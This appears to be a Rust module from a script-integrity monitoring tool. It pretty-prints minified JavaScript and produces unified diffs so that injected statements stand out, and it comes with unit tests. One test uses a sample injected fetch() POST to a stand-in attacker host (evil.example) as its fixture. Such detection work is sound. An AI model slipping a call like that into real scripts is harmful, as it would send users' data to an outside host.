//! Readable diffs of JavaScript for altered-script findings.
//!
//! Production scripts are usually minified onto one line, so a plain line diff would show the
//! whole file as changed. We re-print the code with oxc (one statement per line, indented)
//! before diffing, so that an injected statement shows up as one `+` line a reviewer can read.
//! Code that does not parse is diffed as-is: a diff must never fail or invent text.

use oxc_allocator::Allocator;
use oxc_codegen::{Codegen, CodegenOptions, IndentChar};
use oxc_parser::Parser;
use oxc_span::SourceType;
use similar::TextDiff;

/// Line cap used by [`diff_scripts`]: enough to review an injection, small enough for a report.
pub const DIFF_MAX_LINES: usize = 400;

/// Pretty-prints JavaScript, or returns `src` unchanged when it parses neither as a script nor
/// as a module.
///
/// Scripts are parsed as CommonJS first, which also accepts a top-level `return`, so most
/// event-handler bodies pretty-print too; nothing is ever wrapped or added around the code.
/// Comments may be dropped by the printer; [`diff_scripts`] accounts for that.
pub fn pretty_js(src: &str) -> String {
    for source_type in [SourceType::cjs(), SourceType::mjs()] {
        if let Some(code) = print_as(src, source_type) {
            return code;
        }
    }
    src.to_string()
}

fn print_as(src: &str, source_type: SourceType) -> Option<String> {
    let allocator = Allocator::default();
    let parsed = Parser::new(&allocator, src, source_type).parse();
    // Recoverable syntax errors still yield an AST, but printing it would show code that is
    // not what the browser ran, so any diagnostic means "fall back to the raw text".
    if parsed.panicked || !parsed.diagnostics.is_empty() {
        return None;
    }
    let options = CodegenOptions { indent_char: IndentChar::Space, indent_width: 2, ..CodegenOptions::default() };
    let code = Codegen::new().with_options(options).build(&parsed.program).code;
    // Empty output for non-empty input would hide everything (e.g. a comment-only script).
    if code.trim().is_empty() && !src.trim().is_empty() {
        return None;
    }
    Some(code)
}

/// Unified diff (3 lines of context, changed hunks only) of `old` vs `new`, cut after
/// `max_lines` lines with a final `… N more lines` line. Empty when the texts are equal.
pub fn unified_diff(old: &str, new: &str, old_label: &str, new_label: &str, max_lines: usize) -> String {
    let diff = TextDiff::from_lines(old, new);
    let full = diff.unified_diff().context_radius(3).header(old_label, new_label).to_string();
    cap_lines(&full, max_lines)
}

fn cap_lines(text: &str, max_lines: usize) -> String {
    let lines: Vec<&str> = text.lines().collect();
    if lines.len() <= max_lines {
        return text.to_string();
    }
    let mut out = String::new();
    for line in &lines[..max_lines] {
        out.push_str(line);
        out.push('\n');
    }
    out.push_str(&format!("… {} more lines\n", lines.len() - max_lines));
    out
}

/// Diff of two versions of a script for a finding: both pretty-printed, then a unified diff
/// capped at [`DIFF_MAX_LINES`].
///
/// When the pretty-printed forms are identical but the sources differ (the printer normalises
/// quotes and drops comments), the raw sources are diffed instead so the change is never hidden.
pub fn diff_scripts(old_src: &str, new_src: &str, old_label: &str, new_label: &str) -> String {
    let old_pretty = pretty_js(old_src);
    let new_pretty = pretty_js(new_src);
    if old_pretty == new_pretty && old_src != new_src {
        return unified_diff(old_src, new_src, old_label, new_label, DIFF_MAX_LINES);
    }
    unified_diff(&old_pretty, &new_pretty, old_label, new_label, DIFF_MAX_LINES)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn minified_one_liner_prints_one_statement_per_line() {
        let out = pretty_js("var a=1;function f(x){return x+a}f(2);");
        let lines: Vec<&str> = out.lines().filter(|l| !l.trim().is_empty()).collect();
        assert!(lines.len() >= 3, "got {out:?}");
        assert!(lines.iter().any(|l| l.trim_start().starts_with("return x + a")), "got {out:?}");
        // The body is indented with two spaces.
        assert!(out.contains("\n  return"), "got {out:?}");
    }

    #[test]
    fn module_syntax_pretty_prints() {
        let out = pretty_js("import {a} from './a.js';export const b=a+1;console.log(b);");
        assert!(out.lines().count() >= 3, "got {out:?}");
        assert!(out.contains("import"));
    }

    #[test]
    fn invalid_js_falls_back_to_raw_text() {
        let src = "var = = ;{{ not js";
        assert_eq!(pretty_js(src), src);
    }

    #[test]
    fn handler_body_with_top_level_return_is_not_wrapped() {
        let out = pretty_js("if(window.x)return false;go()");
        assert!(!out.contains("function"), "got {out:?}");
        assert!(out.contains("return false"), "got {out:?}");
    }

    #[test]
    fn appended_statement_is_a_plus_line() {
        let old = "var a=1;function f(x){return x+a}f(2);";
        let new = "var a=1;function f(x){return x+a}f(2);fetch('https://evil.example/c',{method:'POST'});";
        let diff = diff_scripts(old, new, "approved 1", "current 2");
        assert!(diff.starts_with("--- approved 1\n+++ current 2\n"), "got {diff}");
        let plus: Vec<&str> = diff.lines().filter(|l| l.starts_with('+') && !l.starts_with("+++")).collect();
        assert_eq!(plus.len(), 1, "got {diff}");
        assert!(plus[0].contains("evil.example"), "got {diff}");
        assert!(!diff.lines().any(|l| l.starts_with('-') && !l.starts_with("---")), "got {diff}");
    }

    #[test]
    fn comment_only_change_still_shows() {
        let diff = diff_scripts("a();\n// one\n", "a();\n// two\n", "old", "new");
        assert!(diff.contains("-// one") && diff.contains("+// two"), "got {diff}");
    }

    #[test]
    fn equal_texts_give_empty_diff() {
        assert_eq!(unified_diff("a\nb\n", "a\nb\n", "x", "y", 10), "");
    }

    #[test]
    fn cap_cuts_and_counts_remaining_lines() {
        let old: String = (0..50).map(|i| format!("line {i}\n")).collect();
        let new: String = (0..50).map(|i| format!("LINE {i}\n")).collect();
        let full = unified_diff(&old, &new, "a", "b", usize::MAX);
        let total = full.lines().count();
        let capped = unified_diff(&old, &new, "a", "b", 10);
        let lines: Vec<&str> = capped.lines().collect();
        assert_eq!(lines.len(), 11);
        assert_eq!(lines[10], format!("… {} more lines", total - 10));
        assert_eq!(lines[..10], full.lines().take(10).collect::<Vec<_>>()[..]);
    }
}
